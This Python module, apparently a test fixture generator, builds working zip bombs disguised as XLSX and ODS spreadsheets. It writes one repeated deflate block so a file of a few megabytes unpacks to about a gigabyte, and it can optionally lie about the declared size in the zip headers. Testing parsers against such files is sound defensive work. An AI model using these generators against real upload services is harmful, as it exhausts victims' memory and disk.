"""Zip bombs shaped as spreadsheets, small on disk: one compressed block of rows, repeated.

A deflate block after a full flush does not refer to what came before it, so
the same block written many times is a valid stream that unpacks to many
copies: a 1 GB sheet is about 3 MB on disk and takes no time to compress.
"""

from __future__ import annotations

import struct
import zlib
from pathlib import Path

_LOCAL = struct.Struct("<4sHHHHHIIIHH")
_CENTRAL = struct.Struct("<4sHHHHHHIIIHHHHHII")
_END = struct.Struct("<4sHHHHIIH")
ROW = b'<row><c t="inlineStr"><is><t>Arbetsl\xc3\xb6s</t></is></c></row>'


def _repeated_deflate(chunk: bytes, copies: int) -> tuple[bytes, int, int]:
    """(compressed stream, crc32, unpacked size) of ``chunk`` written ``copies`` times."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    block = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    for _copy in range(copies):
        crc = zlib.crc32(chunk, crc)
    return block * copies + b"\x03\x00", crc, len(chunk) * copies  # 03 00: an empty final block


def _plain(content: bytes) -> tuple[bytes, int, int]:
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return packer.compress(content) + packer.flush(), zlib.crc32(content), len(content)


def _stored(content: bytes) -> tuple[bytes, int, int, int]:
    """Not compressed (method 0), as an ODS file's ``mimetype`` must be."""
    return content, zlib.crc32(content), len(content), 0


def write_zip(path: Path, members: list[tuple[str, tuple]], *, declared: int | None = None) -> Path:
    """A zip of already deflated members; ``declared`` makes the last one claim that unpacked size (a lie)."""
    body, directory = b"", b""
    for index, (name, (packed, crc, size, *stored)) in enumerate(members):
        method = 0 if stored else 8
        if declared is not None and index == len(members) - 1:
            size = declared
        encoded = name.encode()
        offset = len(body)
        body += _LOCAL.pack(b"PK\x03\x04", 20, 0, method, 0, 0x21, crc, len(packed), size, len(encoded), 0) + encoded
        body += packed
        directory += _CENTRAL.pack(b"PK\x01\x02", 20, 20, 0, method, 0, 0x21, crc, len(packed), size, len(encoded),
                                   0, 0, 0, 0, 0, offset) + encoded
    end = _END.pack(b"PK\x05\x06", 0, 0, len(members), len(members), len(directory), len(body), 0)
    path.write_bytes(body + directory + end)
    return path


def xlsx_bomb(path: Path, *, unpacked_mb: int = 1000, declared: int | None = None) -> Path:
    chunk = ROW * (1024 * 1024 // len(ROW))
    return write_zip(path, [
        ("[Content_Types].xml", _plain(b'<?xml version="1.0"?><Types/>')),
        ("xl/workbook.xml", _plain(b'<?xml version="1.0"?><workbook/>')),
        ("xl/worksheets/sheet1.xml", _repeated_deflate(chunk, unpacked_mb)),
    ], declared=declared)


def ods_bomb(path: Path, *, unpacked_mb: int = 1000) -> Path:
    cell = b"<table:table-row><table:table-cell><text:p>Arbetsl\xc3\xb6s</text:p></table:table-cell></table:table-row>"
    return write_zip(path, [
        ("mimetype", _stored(b"application/vnd.oasis.opendocument.spreadsheet")),
        ("content.xml", _repeated_deflate(cell * (1024 * 1024 // len(cell)), unpacked_mb)),
    ])
